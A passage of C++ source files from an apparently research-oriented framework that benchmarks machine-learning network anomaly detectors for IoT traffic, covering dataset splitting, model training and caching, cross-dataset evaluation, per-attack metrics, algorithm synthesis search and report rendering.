  size_t size() const { return rows_.size(); }
  const std::vector<ResultRow>& rows() const { return rows_; }

  /// Filtered query; empty strings match anything.
  std::vector<ResultRow> query(const std::string& algo,
                               const std::string& train_ds,
                               const std::string& test_ds,
                               const std::string& metric) const;

  /// Single-value lookup.
  std::optional<double> value(const std::string& algo,
                              const std::string& train_ds,
                              const std::string& test_ds,
                              const std::string& metric) const;

  Result<void> save_csv(const std::string& path) const;
  static Result<ResultStore> load_csv(const std::string& path);

 private:
  std::vector<ResultRow> rows_;
};

}  // namespace lumen::eval
