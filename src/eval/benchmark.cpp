#include "eval/benchmark.h"

#include <algorithm>
#include <numeric>

#include "ml/metrics.h"

namespace lumen::eval {

const trace::Dataset& Benchmark::dataset(const std::string& id) {
  Result<const trace::Dataset*> ds = datasets_.get_or_compute(
      id, [&]() -> Result<trace::Dataset> {
        return trace::make_dataset(id, opts_.dataset_scale);
      });
  return *ds.value();  // dataset generation cannot fail
}

Result<const FeatureTable*> Benchmark::features(const std::string& algo_id,
                                                const std::string& ds_id) {
  return feature_cache_.get_or_compute(
      std::make_pair(algo_id, ds_id), [&]() -> Result<FeatureTable> {
        const AlgorithmDef* algo = core::find_algorithm(algo_id);
        if (algo == nullptr) {
          return Error::make("benchmark", "unknown algorithm " + algo_id);
        }
        const trace::Dataset& ds = dataset(ds_id);
        if (!core::compatible(*algo, ds)) {
          return Error::make("benchmark",
                             algo_id + " cannot faithfully run on " + ds_id +
                                 " (granularity/requirements)");
        }
        Result<FeatureTable> t = core::compute_features(*algo, ds);
        if (!t.ok()) return t.error();
        features::impute_non_finite(t.value());
        return std::move(t).value();
      });
}

Result<const Benchmark::Split*> Benchmark::split(const std::string& algo_id,
                                                 const std::string& ds_id) {
  return split_cache_.get_or_compute(
      std::make_pair(algo_id, ds_id), [&]() -> Result<Split> {
        Result<const FeatureTable*> feats = features(algo_id, ds_id);
        if (!feats.ok()) return feats.error();
        return split_by_time(*feats.value(), opts_.train_fraction);
      });
}

std::pair<FeatureTable, FeatureTable> Benchmark::split_by_time(
    const FeatureTable& t, double train_fraction) {
  std::vector<size_t> order(t.rows);
  std::iota(order.begin(), order.end(), 0);
  std::stable_sort(order.begin(), order.end(), [&](size_t a, size_t b) {
    return t.unit_time[a] < t.unit_time[b];
  });
  const size_t n_train =
      static_cast<size_t>(train_fraction * static_cast<double>(t.rows));
  std::vector<size_t> tr(order.begin(),
                         order.begin() + static_cast<std::ptrdiff_t>(n_train));
  std::vector<size_t> te(order.begin() + static_cast<std::ptrdiff_t>(n_train),
                         order.end());
  std::sort(tr.begin(), tr.end());
  std::sort(te.begin(), te.end());
  return {t.select_rows(tr), t.select_rows(te)};
}

FeatureTable Benchmark::cap_rows(const FeatureTable& t, size_t max_rows,
                                 uint64_t salt) const {
  if (t.rows <= max_rows) return t;
  // Stratified subsample: keep the class ratio, deterministic by salt.
  std::vector<size_t> pos, neg;
  for (size_t r = 0; r < t.rows; ++r) {
    (t.labels[r] != 0 ? pos : neg).push_back(r);
  }
  Rng rng(opts_.seed ^ salt);
  rng.shuffle(pos);
  rng.shuffle(neg);
  const double frac = static_cast<double>(max_rows) / static_cast<double>(t.rows);
  size_t n_pos = static_cast<size_t>(frac * static_cast<double>(pos.size()));
  size_t n_neg = max_rows - std::min(max_rows, n_pos);
  n_pos = std::min(n_pos, pos.size());
  n_neg = std::min(n_neg, neg.size());
  std::vector<size_t> pick(pos.begin(), pos.begin() + static_cast<std::ptrdiff_t>(n_pos));
  pick.insert(pick.end(), neg.begin(), neg.begin() + static_cast<std::ptrdiff_t>(n_neg));
  std::sort(pick.begin(), pick.end());
  return t.select_rows(pick);
}

Result<const core::ModelValue*> Benchmark::trained_model(
    const std::string& algo_id, const std::string& train_ds) {
  return model_cache_.get_or_compute(
      std::make_pair(algo_id, train_ds), [&]() -> Result<core::ModelValue> {
        const AlgorithmDef* algo = core::find_algorithm(algo_id);
        if (algo == nullptr) {
          return Error::make("benchmark", "unknown algorithm " + algo_id);
        }
        Result<const Split*> sp = split(algo_id, train_ds);
        if (!sp.ok()) return sp.error();
        const FeatureTable capped =
            cap_rows(sp.value()->first, opts_.max_train_rows,
                     Rng::seed_from(algo_id + train_ds));

        Result<core::ModelValue> mv = core::make_algorithm_model(*algo);
        if (!mv.ok()) return mv.error();
        core::ModelValue model = std::move(mv).value();

        FeatureTable X = capped;
        if (model.decorrelate) {
          model.corr_filter = std::make_shared<features::CorrelationFilter>();
          model.corr_filter->fit(X);
          X = model.corr_filter->apply(X);
        }
        if (model.normalize) {
          model.normalizer = std::make_shared<features::Normalizer>();
          model.normalizer->fit(X);
          model.normalizer->apply(X);
        }
        model.model->fit(X);
        return model;
      });
}

Result<Benchmark::RunOutput> Benchmark::evaluate_table(
    const std::string& algo_id, const core::ModelValue& model,
    const FeatureTable& test, const std::string& train_ds,
    const std::string& test_ds) {
  FeatureTable X =
      cap_rows(test, opts_.max_test_rows,
               Rng::seed_from(algo_id + train_ds + test_ds, 7));
  if (model.corr_filter) X = model.corr_filter->apply(X);
  if (model.normalizer) model.normalizer->apply(X);

  RunOutput out;
  out.predictions.y_true = X.labels;
  out.predictions.scores = model.model->score(X);
  out.predictions.y_pred = model.model->predict(X);
  out.predictions.attack = X.attack;

  const ml::Confusion c =
      ml::confusion(out.predictions.y_true, out.predictions.y_pred);
  out.record.algo = algo_id;
  out.record.train_ds = train_ds;
  out.record.test_ds = test_ds;
  out.record.precision = ml::precision(c);
  out.record.recall = ml::recall(c);
  out.record.f1 = ml::f1(c);
  out.record.accuracy = ml::accuracy(c);
  out.record.auc = ml::auc(out.predictions.y_true, out.predictions.scores);
  out.record.n_test = X.rows;
  return out;
}

Result<Benchmark::RunOutput> Benchmark::same_dataset(
    const std::string& algo_id, const std::string& ds_id) {
  Result<const core::ModelValue*> model = trained_model(algo_id, ds_id);
  if (!model.ok()) return model.error();
  Result<const Split*> sp = split(algo_id, ds_id);
  if (!sp.ok()) return sp.error();
  Result<RunOutput> out =
      evaluate_table(algo_id, *model.value(), sp.value()->second, ds_id, ds_id);
  if (out.ok()) out.value().record.n_train = sp.value()->first.rows;
  return out;
}

Result<Benchmark::RunOutput> Benchmark::cross_dataset(
    const std::string& algo_id, const std::string& train_ds,
    const std::string& test_ds) {
  Result<const core::ModelValue*> model = trained_model(algo_id, train_ds);
  if (!model.ok()) return model.error();
  Result<const Split*> sp = split(algo_id, test_ds);
  if (!sp.ok()) return sp.error();
  return evaluate_table(algo_id, *model.value(), sp.value()->second, train_ds,
                        test_ds);
}

Result<Benchmark::RunOutput> Benchmark::merged_training(
    const std::string& algo_id, double fraction) {
  const AlgorithmDef* algo = core::find_algorithm(algo_id);
  if (algo == nullptr) {
    return Error::make("benchmark", "unknown algorithm " + algo_id);
  }

  // Concatenate `fraction` of every strictly-faithful dataset's train split
  // (and likewise for test), keeping the overall training size bounded.
  std::optional<FeatureTable> train_merged, test_merged;
  for (const std::string& ds_id : trace::all_dataset_ids()) {
    const trace::Dataset& ds = dataset(ds_id);
    if (!core::strict_faithful(*algo, ds)) continue;
    Result<const Split*> sp = split(algo_id, ds_id);
    if (!sp.ok()) continue;  // incompatible pairs are simply skipped
    const auto& [train, test] = *sp.value();
    const size_t tr_rows = std::max<size_t>(
        1, static_cast<size_t>(fraction * static_cast<double>(train.rows) /
                               opts_.train_fraction));
    const size_t te_rows = std::max<size_t>(
        1, static_cast<size_t>(fraction * static_cast<double>(test.rows) /
                               (1.0 - opts_.train_fraction)));
    FeatureTable tr = cap_rows(train, tr_rows, Rng::seed_from(ds_id, 11));
    FeatureTable te = cap_rows(test, te_rows, Rng::seed_from(ds_id, 13));
    if (!train_merged) {
      train_merged = std::move(tr);
      test_merged = std::move(te);
    } else {
      train_merged->append(tr);
      test_merged->append(te);
    }
  }
  if (!train_merged || train_merged->rows == 0) {
    return Error::make("benchmark",
                       algo_id + ": no compatible datasets for merged training");
  }

  Result<core::ModelValue> mv = core::make_algorithm_model(*algo);
  if (!mv.ok()) return mv.error();
  core::ModelValue model = std::move(mv).value();
  FeatureTable X = cap_rows(*train_merged, opts_.max_train_rows,
                            Rng::seed_from(algo_id, 17));
  if (model.decorrelate) {
    model.corr_filter = std::make_shared<features::CorrelationFilter>();
    model.corr_filter->fit(X);
    X = model.corr_filter->apply(X);
  }
  if (model.normalize) {
    model.normalizer = std::make_shared<features::Normalizer>();
    model.normalizer->fit(X);
    model.normalizer->apply(X);
  }
  model.model->fit(X);

  Result<RunOutput> out =
      evaluate_table(algo_id, model, *test_merged, "merged", "merged");
  if (out.ok()) out.value().record.n_train = X.rows;
  return out;
}

std::vector<AttackScore> Benchmark::per_attack(const RunOutput& run) const {
  // Which attacks appear in this test set?
  std::map<uint8_t, size_t> present;
  for (size_t i = 0; i < run.predictions.attack.size(); ++i) {
    if (run.predictions.y_true[i] != 0 && run.predictions.attack[i] != 0) {
      ++present[run.predictions.attack[i]];
    }
  }
  std::vector<AttackScore> out;
  for (const auto& [attack, count] : present) {
    // Restrict to benign rows + this attack's rows.
    std::vector<int> y_true, y_pred;
    for (size_t i = 0; i < run.predictions.y_true.size(); ++i) {
      const bool benign = run.predictions.y_true[i] == 0;
      const bool this_attack = run.predictions.attack[i] == attack &&
                               run.predictions.y_true[i] != 0;
      if (benign || this_attack) {
        y_true.push_back(run.predictions.y_true[i]);
        y_pred.push_back(run.predictions.y_pred[i]);
      }
    }
    const ml::Confusion c = ml::confusion(y_true, y_pred);
    AttackScore s;
    s.attack = static_cast<trace::AttackType>(attack);
    s.precision = ml::precision(c);
    s.recall = ml::recall(c);
    s.positives = count;
    out.push_back(s);
  }
  return out;
}

}  // namespace lumen::eval
