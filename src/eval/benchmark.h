// The benchmarking suite (§3.3): granularity-faithful evaluation protocols
// over the dataset registry and algorithm registry, with the intermediate-
// result sharing the paper highlights — features are computed once per
// (algorithm, dataset) and trained models once per (algorithm, train set),
// then reused across every experiment in the process.
#pragma once

#include <map>
#include <optional>
#include <utility>

#include "common/memo.h"
#include "core/algorithms.h"
#include "trace/registry.h"

namespace lumen::eval {

using core::AlgorithmDef;
using features::FeatureTable;

/// One evaluation outcome (a row of the result store).
struct EvalRecord {
  std::string algo;
  std::string train_ds;
  std::string test_ds;
  double precision = 0.0;
  double recall = 0.0;
  double f1 = 0.0;
  double accuracy = 0.0;
  double auc = 0.0;
  size_t n_train = 0;
  size_t n_test = 0;
};

/// Per-attack precision/recall, computed from a run's test predictions by
/// restricting to benign rows plus rows of one attack family.
struct AttackScore {
  trace::AttackType attack = trace::AttackType::kNone;
  double precision = 0.0;
  double recall = 0.0;
  size_t positives = 0;  // attack rows present in the test set
};

class Benchmark {
 public:
  struct Options {
    double dataset_scale = 1.0;  // shrink captures for fast tests
    double train_fraction = 0.7;
    size_t max_train_rows = 2500;  // stratified row caps keep heavyweight
    size_t max_test_rows = 2500;   // models tractable
    uint64_t seed = 2022;
  };

  Benchmark() : Benchmark(Options{}) {}
  explicit Benchmark(Options opts) : opts_(opts) {}

  const Options& options() const { return opts_; }

  /// Dataset access (generated once, cached for the Benchmark's lifetime).
  const trace::Dataset& dataset(const std::string& id);

  /// Feature table for (algorithm, dataset), cached.
  Result<const FeatureTable*> features(const std::string& algo_id,
                                       const std::string& ds_id);

  struct RunOutput {
    EvalRecord record;
    core::Predictions predictions;  // over the test rows
  };

  /// Train and test on time-ordered splits of the same dataset.
  Result<RunOutput> same_dataset(const std::string& algo_id,
                                 const std::string& ds_id);

  /// Train on `train_ds`'s train split, test on `test_ds`'s test split.
  Result<RunOutput> cross_dataset(const std::string& algo_id,
                                  const std::string& train_ds,
                                  const std::string& test_ds);

  /// §5.4 merged-training: train on a concatenation of `fraction` of every
  /// compatible dataset's train split; test on the matching merged test set.
  Result<RunOutput> merged_training(const std::string& algo_id,
                                    double fraction = 0.1);

  /// Per-attack breakdown of a run's predictions.
  std::vector<AttackScore> per_attack(const RunOutput& run) const;

  /// Deterministic time-ordered split of a feature table.
  static std::pair<FeatureTable, FeatureTable> split_by_time(
      const FeatureTable& t, double train_fraction);

 private:
  using PairKey = std::pair<std::string, std::string>;
  using Split = std::pair<FeatureTable, FeatureTable>;

  /// Model trained on `train_ds` for `algo`, cached.
  Result<const core::ModelValue*> trained_model(const std::string& algo_id,
                                                const std::string& train_ds);

  /// Cached time-ordered train/test split of features(algo, ds).
  Result<const Split*> split(const std::string& algo_id,
                             const std::string& ds_id);

  FeatureTable cap_rows(const FeatureTable& t, size_t max_rows,
                        uint64_t salt) const;
  Result<RunOutput> evaluate_table(const std::string& algo_id,
                                   const core::ModelValue& model,
                                   const FeatureTable& test,
                                   const std::string& train_ds,
                                   const std::string& test_ds);

  Options opts_;
  // Concurrency-safe per-key memoization: sweep workers computing the same
  // (algo, dataset) pair block on one computation instead of racing it.
  MemoCache<std::string, trace::Dataset> datasets_;
  MemoCache<PairKey, FeatureTable> feature_cache_;
  MemoCache<PairKey, core::ModelValue> model_cache_;
  MemoCache<PairKey, Split> split_cache_;
};

}  // namespace lumen::eval
