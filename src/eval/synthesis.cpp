#include "eval/synthesis.h"

#include <map>

#include "ml/metrics.h"

namespace lumen::eval {

core::AlgorithmDef SynthCandidate::to_algorithm(const std::string& id) const {
  core::AlgorithmDef def;
  def.id = id;
  def.label = describe();
  def.paper = "Lumen-synthesized";
  def.granularity = trace::Granularity::kConnection;
  def.needs_ip = true;

  std::string sets;
  for (size_t i = 0; i < feature_sets.size(); ++i) {
    if (i != 0) sets += ", ";
    sets += "\"" + feature_sets[i] + "\"";
  }
  std::string tpl = R"([
  {"func": "field_extract", "input": None, "output": "Packets", "param": []},
  {"func": "connections", "input": ["Packets"], "output": "Conns"},
  {"func": "conn_features", "input": ["Conns"], "output": "Blocks",
   "set": [)" + sets + R"(]},
)";
  if (add_first_k) {
    tpl += R"(  {"func": "first_k_packets", "input": ["Conns"],
   "output": "Seq", "k": 8, "what": ["len", "iat"]},
  {"func": "concat_features", "input": ["Blocks", "Seq"],
   "output": "Features"},
)";
  } else {
    tpl += R"(  {"func": "select_columns", "input": ["Blocks"],
   "output": "Features", "prefixes": [""]},
)";
  }
  tpl += "]";
  def.feature_template = tpl;

  std::string spec = "{\"model_type\": \"" + model_type + "\"";
  if (normalize) spec += ", \"normalize\": true";
  if (decorrelate) spec += ", \"decorrelate\": true";
  spec += "}";
  def.model_spec = spec;
  return def;
}

std::string SynthCandidate::describe() const {
  std::string out = "feats{";
  for (size_t i = 0; i < feature_sets.size(); ++i) {
    if (i != 0) out += "+";
    out += feature_sets[i];
  }
  if (add_first_k) out += "+firstk";
  out += "} " + model_type;
  if (normalize) out += " +norm";
  if (decorrelate) out += " +decorr";
  return out;
}

namespace {

std::string feature_key(const SynthCandidate& cand, const trace::Dataset& ds) {
  // The packet count disambiguates differently-scaled Benchmark instances
  // sharing this process (the cache is process-global).
  std::string key = ds.id + "#" + std::to_string(ds.packets()) + "|";
  for (const std::string& f : cand.feature_sets) key += f + ",";
  key += cand.add_first_k ? "+k" : "";
  return key;
}

}  // namespace

double score_candidate(Benchmark& bench, const SynthCandidate& cand,
                       const std::vector<std::string>& datasets,
                       const std::string& metric) {
  // Feature tables are shared across candidates that differ only in model
  // or training setup (the paper's intermediate-result sharing).
  static std::map<std::string, features::FeatureTable> feature_cache;

  const core::AlgorithmDef def = cand.to_algorithm("SYNTH");
  double sum = 0.0;
  size_t n = 0;
  for (const std::string& ds_id : datasets) {
    const trace::Dataset& ds = bench.dataset(ds_id);
    const std::string key = feature_key(cand, ds);
    auto it = feature_cache.find(key);
    if (it == feature_cache.end()) {
      auto feats = core::compute_features(def, ds);
      if (!feats.ok()) continue;
      features::impute_non_finite(feats.value());
      it = feature_cache.emplace(key, std::move(feats).value()).first;
    }
    auto [train, test] = Benchmark::split_by_time(it->second, 0.7);

    auto model = core::make_algorithm_model(def);
    if (!model.ok()) continue;
    core::ModelValue mv = std::move(model).value();
    features::FeatureTable X = train;
    if (mv.decorrelate) {
      mv.corr_filter = std::make_shared<features::CorrelationFilter>();
      mv.corr_filter->fit(X);
      X = mv.corr_filter->apply(X);
    }
    if (mv.normalize) {
      mv.normalizer = std::make_shared<features::Normalizer>();
      mv.normalizer->fit(X);
      mv.normalizer->apply(X);
    }
    mv.model->fit(X);

    features::FeatureTable T = test;
    if (mv.corr_filter) T = mv.corr_filter->apply(T);
    if (mv.normalizer) mv.normalizer->apply(T);
    const ml::Confusion c = ml::confusion(T.labels, mv.model->predict(T));
    sum += metric == "f1" ? ml::f1(c) : ml::precision(c);
    ++n;
  }
  return n > 0 ? sum / static_cast<double>(n) : 0.0;
}

SynthResult synthesize(Benchmark& bench, const SynthOptions& opts) {
  std::vector<std::string> datasets = opts.datasets;
  if (datasets.empty()) datasets = trace::connection_dataset_ids();

  SynthResult result;
  auto consider = [&](const SynthCandidate& cand) {
    const double s = score_candidate(bench, cand, datasets, opts.metric);
    ++result.evaluated;
    result.trace.emplace_back(cand.describe(), s);
    if (s > result.score) {
      result.score = s;
      result.candidate = cand;
    }
    return s;
  };

  // Stage 1: best single block x model.
  for (const std::string& block : opts.blocks) {
    for (const std::string& model : opts.models) {
      SynthCandidate cand;
      cand.feature_sets = {block};
      cand.model_type = model;
      consider(cand);
    }
  }

  // Stage 2: greedily add blocks while any addition improves the best.
  for (;;) {
    const SynthCandidate base = result.candidate;
    const double base_score = result.score;
    for (const std::string& block : opts.blocks) {
      bool have = false;
      for (const std::string& f : base.feature_sets) have |= f == block;
      if (have) continue;
      SynthCandidate cand = base;
      cand.feature_sets.push_back(block);
      consider(cand);  // updates result when the candidate is better
    }
    if (result.score <= base_score) break;
  }

  // Stage 3: toggle the sequence block and training-setup options.
  for (int toggle = 0; toggle < 3; ++toggle) {
    SynthCandidate cand = result.candidate;
    if (toggle == 0) cand.add_first_k = !cand.add_first_k;
    if (toggle == 1) cand.normalize = !cand.normalize;
    if (toggle == 2) cand.decorrelate = !cand.decorrelate;
    consider(cand);
  }
  return result;
}

}  // namespace lumen::eval
