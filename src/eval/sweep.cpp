#include "eval/sweep.h"

#include <cstdio>
#include <optional>

#include "common/parallel.h"
#include "common/telemetry.h"

namespace lumen::eval {

std::vector<std::string> faithful_datasets(Benchmark& bench,
                                           const std::string& algo_id) {
  const core::AlgorithmDef* algo = core::find_algorithm(algo_id);
  std::vector<std::string> out;
  for (const std::string& ds : trace::all_dataset_ids()) {
    if (algo != nullptr && core::strict_faithful(*algo, bench.dataset(ds))) {
      out.push_back(ds);
    }
  }
  return out;
}

std::vector<std::pair<std::string, std::string>> same_dataset_pairs(
    Benchmark& bench, const std::vector<std::string>& algos) {
  std::vector<std::pair<std::string, std::string>> pairs;
  for (const std::string& algo : algos) {
    for (const std::string& ds : faithful_datasets(bench, algo)) {
      pairs.emplace_back(algo, ds);
    }
  }
  return pairs;
}

std::vector<std::array<std::string, 3>> cross_dataset_pairs(
    Benchmark& bench, const std::vector<std::string>& algos) {
  std::vector<std::array<std::string, 3>> triples;
  for (const std::string& algo : algos) {
    const std::vector<std::string> datasets = faithful_datasets(bench, algo);
    for (const std::string& train : datasets) {
      for (const std::string& test : datasets) {
        if (train == test) continue;
        triples.push_back({algo, train, test});
      }
    }
  }
  return triples;
}

namespace {

/// Evaluate `n` grid cells through `cell` (any thread, any order), then merge
/// serially in index order: successful runs go to `store` + `on_run`, errors
/// to stderr via `describe`.
void run_indexed(
    size_t n, bool parallel,
    const std::function<Result<Benchmark::RunOutput>(size_t)>& cell,
    const std::function<std::string(size_t)>& describe, ResultStore& store,
    const RunCallback& on_run) {
  std::vector<std::optional<Result<Benchmark::RunOutput>>> results(n);
  // Each grid cell records a wall-time span (detail = "algo on dataset")
  // plus ok/error counters into the process registry; the span stack is
  // thread-local, so pool workers trace their own cells. Telemetry never
  // touches the results buffer, so the determinism contract holds.
  telemetry::Registry& tel = telemetry::Registry::process();
  telemetry::Counter& cells_ok = tel.counter("eval.cells");
  telemetry::Counter& cells_err = tel.counter("eval.cell_errors");
  auto evaluate = [&](size_t i) {
    telemetry::Span span(&tel, "eval.cell", describe(i));
    results[i].emplace(cell(i));
    span.stop();
    (results[i]->ok() ? cells_ok : cells_err).add(1);
  };
  if (parallel) {
    parallel_for(0, n, evaluate, /*min_parallel=*/2);
  } else {
    for (size_t i = 0; i < n; ++i) evaluate(i);
  }
  for (size_t i = 0; i < n; ++i) {
    Result<Benchmark::RunOutput>& run = *results[i];
    if (!run.ok()) {
      std::fprintf(stderr, "[skip] %s: %s\n", describe(i).c_str(),
                   run.error().message.c_str());
      continue;
    }
    store.add_record(run.value().record);
    if (on_run) on_run(run.value());
  }
}

}  // namespace

void sweep_same_dataset(Benchmark& bench, const std::vector<std::string>& algos,
                        ResultStore& store, const RunCallback& on_run,
                        bool parallel) {
  const auto pairs = same_dataset_pairs(bench, algos);
  run_indexed(
      pairs.size(), parallel,
      [&](size_t i) { return bench.same_dataset(pairs[i].first, pairs[i].second); },
      [&](size_t i) { return pairs[i].first + " on " + pairs[i].second; },
      store, on_run);
}

void sweep_cross_dataset(Benchmark& bench,
                         const std::vector<std::string>& algos,
                         ResultStore& store, bool parallel) {
  const auto triples = cross_dataset_pairs(bench, algos);
  run_indexed(
      triples.size(), parallel,
      [&](size_t i) {
        return bench.cross_dataset(triples[i][0], triples[i][1], triples[i][2]);
      },
      [&](size_t i) {
        return triples[i][0] + " " + triples[i][1] + "->" + triples[i][2];
      },
      store, /*on_run=*/{});
}

void prefetch_same_dataset(
    Benchmark& bench,
    const std::vector<std::pair<std::string, std::string>>& pairs) {
  parallel_for(
      0, pairs.size(),
      [&](size_t i) {
        auto run = bench.same_dataset(pairs[i].first, pairs[i].second);
        (void)run;
      },
      /*min_parallel=*/2);
}

}  // namespace lumen::eval
