#include "eval/report.h"

#include <algorithm>
#include <cstdio>

#include "features/stats.h"

namespace lumen::eval {

namespace {

/// Coarse shade for a [0,1] value, so heatmaps are skimmable in a terminal.
const char* shade(double v) {
  if (std::isnan(v)) return " ";
  if (v >= 0.9) return "#";
  if (v >= 0.7) return "+";
  if (v >= 0.5) return "=";
  if (v >= 0.3) return "-";
  return ".";
}

}  // namespace

std::string Heatmap::render() const {
  std::string out = "== " + title + " ==\n";
  char buf[64];
  // Header.
  out += "        ";
  for (const std::string& c : col_names) {
    std::snprintf(buf, sizeof(buf), "%10.10s", c.c_str());
    out += buf;
  }
  out += "\n";
  for (size_t r = 0; r < row_names.size(); ++r) {
    std::snprintf(buf, sizeof(buf), "%-8.8s", row_names[r].c_str());
    out += buf;
    for (size_t c = 0; c < col_names.size(); ++c) {
      const double v = at(r, c);
      if (std::isnan(v)) {
        out += "       -- ";
      } else {
        std::snprintf(buf, sizeof(buf), "   %s %5.2f", shade(v), v);
        out += buf;
      }
    }
    out += "\n";
  }
  out += "(shade: # >=0.9, + >=0.7, = >=0.5, - >=0.3, . <0.3, -- no data)\n";
  return out;
}

std::string Heatmap::to_csv() const {
  std::string out = "row";
  for (const std::string& c : col_names) out += "," + c;
  out += "\n";
  char buf[32];
  for (size_t r = 0; r < row_names.size(); ++r) {
    out += row_names[r];
    for (size_t c = 0; c < col_names.size(); ++c) {
      const double v = at(r, c);
      if (std::isnan(v)) {
        out += ",";
      } else {
        std::snprintf(buf, sizeof(buf), ",%.4f", v);
        out += buf;
      }
    }
    out += "\n";
  }
  return out;
}

Distribution Distribution::from(std::string name, std::vector<double> values) {
  Distribution d;
  d.name = std::move(name);
  d.n = values.size();
  if (values.empty()) return d;
  d.min = features::percentile(values, 0.0);
  d.q25 = features::percentile(values, 25.0);
  d.median = features::percentile(values, 50.0);
  d.q75 = features::percentile(values, 75.0);
  d.max = features::percentile(values, 100.0);
  return d;
}

std::string render_distributions(const std::string& title,
                                 const std::vector<Distribution>& dists) {
  std::string out = "== " + title + " ==\n";
  out +=
      "name       n    min    q25    med    q75    max   [0      bar      1]\n";
  char buf[160];
  for (const Distribution& d : dists) {
    // 20-char quartile bar: '.' outside min..max, '-' inside, '=' q25..q75,
    // '|' at the median.
    char bar[21];
    for (int i = 0; i < 20; ++i) {
      const double x = (static_cast<double>(i) + 0.5) / 20.0;
      char g = '.';
      if (x >= d.min && x <= d.max) g = '-';
      if (x >= d.q25 && x <= d.q75) g = '=';
      bar[i] = g;
    }
    const int med_pos =
        std::clamp(static_cast<int>(d.median * 20.0), 0, 19);
    if (d.n > 0) bar[med_pos] = '|';
    bar[20] = '\0';
    std::snprintf(buf, sizeof(buf),
                  "%-9.9s %3zu  %5.2f  %5.2f  %5.2f  %5.2f  %5.2f   [%s]\n",
                  d.name.c_str(), d.n, d.min, d.q25, d.median, d.q75, d.max,
                  bar);
    out += buf;
  }
  return out;
}

}  // namespace lumen::eval
