// §6 of the paper: "Lumen can also be used to understand the relevant
// features for each attack type or deployment."
//
// Two complementary relevance measures over an algorithm's feature table:
//  * forest split importance — how often (weighted by node population) a
//    random forest trained on the task splits on each feature;
//  * per-attack separation — the standardized mean difference (Cohen's d)
//    between one attack's rows and the benign rows, per feature.
#pragma once

#include "eval/benchmark.h"

namespace lumen::eval {

struct FeatureRelevance {
  std::string feature;
  double score = 0.0;
};

/// Split-count importance from a forest trained on the table. Scores are
/// normalized to sum to 1. Ties are broken by column order (deterministic).
std::vector<FeatureRelevance> forest_importance(
    const features::FeatureTable& table, size_t n_trees = 20,
    uint64_t seed = 77);

/// |Cohen's d| between rows of `attack` and benign rows, per feature,
/// sorted descending. Features with no variation score 0.
std::vector<FeatureRelevance> attack_separation(
    const features::FeatureTable& table, trace::AttackType attack);

/// Convenience: the top-k relevant features of `algo_id` for each attack
/// in `ds_id` (uses the Benchmark's cached features).
struct AttackRelevanceReport {
  trace::AttackType attack = trace::AttackType::kNone;
  std::vector<FeatureRelevance> top;
};

Result<std::vector<AttackRelevanceReport>> per_attack_relevance(
    Benchmark& bench, const std::string& algo_id, const std::string& ds_id,
    size_t top_k = 5);

}  // namespace lumen::eval
