#include "eval/literature.h"

#include <cstdio>
#include <set>

namespace lumen::eval {

const std::vector<LiteratureEntry>& literature_survey() {
  // Transcribed from Table 1. "Custom*" marks private/author-collected data
  // (distinct Custom entries never overlap).
  static const std::vector<LiteratureEntry> kTable = {
      {"ML for DDoS", "Ensemble of RF, SVM, DT and KNN", "Packet",
       {"Custom1"}, "Precision: 99.9%"},
      {"Efficient One-Class SVM", "OCSVM and GMM", "Packet",
       {"CTU IoT", "UNB IDS", "MAWI"}, "AUC: 62 - 99%"},
      {"Kitsune", "Stacked Auto-Encoders", "Packet",
       {"Custom2"}, "Precision: 99%"},
      {"Nprint", "AutoML", "Packet", {"CICIDS2017", "netML"},
       "Balanced Precision: 86-99%"},
      {"Smart Detect", "Random Forest", "Unidirectional Flow",
       {"CICIDS2017", "CIC-DoS"}, "Precision: 80 - 96.1%"},
      {"Network Centric Anomaly Detection", "Auto Encoder",
       "Flow: srcIP, dstIP", {"Custom3"}, "Precision: 99%"},
      {"Industrial IoT", "Random Forest", "Connection", {"Custom4"},
       "Sensitivity: 97%"},
      {"Smart Home IDS", "Random Forest", "Packet", {"Custom5"},
       "Precision: 97%"},
      {"Ensemble", "NB, DT, RF and DNN", "Unidirectional Flow",
       {"UNSW NB-15", "NIMS"}, "Precision: 98.29-99.54%"},
      {"Bayesian Traffic Classification", "Bayes Classifier", "Connection",
       {"Custom6"}, "Precision: 96.29%"},
      {"Zeek Logs", "RF", "Connection", {"CTU IoT"}, "Precision: 97%"},
  };
  return kTable;
}

std::vector<std::pair<std::string, int>> possible_comparisons() {
  const auto& table = literature_survey();
  std::vector<std::pair<std::string, int>> out;
  for (size_t i = 0; i < table.size(); ++i) {
    std::set<std::string> mine(table[i].datasets.begin(),
                               table[i].datasets.end());
    int count = 0;
    for (size_t j = 0; j < table.size(); ++j) {
      if (i == j) continue;
      bool shares = false;
      for (const std::string& d : table[j].datasets) {
        // Private datasets are unique to their paper by construction.
        if (d.rfind("Custom", 0) == 0) continue;
        if (mine.count(d) != 0) shares = true;
      }
      count += shares;
    }
    out.emplace_back(table[i].algorithm, count);
  }
  return out;
}

std::string render_literature_table() {
  std::string out =
      "== Table 1: network-layer ML-based anomaly detection for IoT ==\n";
  char buf[256];
  std::snprintf(buf, sizeof(buf), "%-36s %-32s %-20s %-26s %s\n", "Algorithm",
                "ML Model", "Granularity", "Datasets", "Reported");
  out += buf;
  for (const LiteratureEntry& e : literature_survey()) {
    std::string datasets;
    for (size_t i = 0; i < e.datasets.size(); ++i) {
      if (i != 0) datasets += ", ";
      datasets += e.datasets[i];
    }
    std::snprintf(buf, sizeof(buf), "%-36.36s %-32.32s %-20.20s %-26.26s %s\n",
                  e.algorithm.c_str(), e.ml_model.c_str(),
                  e.granularity.c_str(), datasets.c_str(),
                  e.reported_performance.c_str());
    out += buf;
  }
  return out;
}

}  // namespace lumen::eval
