// §5.4 algorithm synthesis: a greedy brute-force search over the space of
// feature-building blocks, ML models, and training-setup options, scored by
// the benchmarking suite. This is the machinery behind the AM* rows of
// Fig. 6 — Lumen can *generate* a better algorithm by recombining modules
// from the literature.
#pragma once

#include "eval/benchmark.h"

namespace lumen::eval {

/// One candidate configuration in the search space.
struct SynthCandidate {
  std::vector<std::string> feature_sets;  // conn_features blocks
  bool add_first_k = false;               // + first-k packet sequences
  std::string model_type = "RandomForest";
  bool normalize = false;
  bool decorrelate = false;

  /// Render as an AlgorithmDef (template + model spec) named `id`.
  core::AlgorithmDef to_algorithm(const std::string& id) const;

  std::string describe() const;
};

struct SynthResult {
  SynthCandidate candidate;
  double score = 0.0;       // mean precision over the evaluation datasets
  size_t evaluated = 0;     // candidates tried by the search
  std::vector<std::pair<std::string, double>> trace;  // (desc, score) log
};

struct SynthOptions {
  /// Datasets used to score candidates (defaults to all connection sets).
  std::vector<std::string> datasets;
